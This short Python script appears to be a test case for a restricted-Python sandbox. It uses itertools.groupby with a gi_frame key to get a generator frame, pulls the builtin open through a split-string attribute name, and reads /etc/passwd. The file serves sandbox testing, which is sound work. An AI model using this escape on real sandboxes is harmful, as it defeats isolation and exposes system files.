# tries: groupby hands out what its key function reads
# class: reader
# stops: 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


import itertools
import operator

pairs = itertools.groupby([(x for x in ())], operator.attrgetter("gi_frame"))
use(pick(next(pairs)[0]))
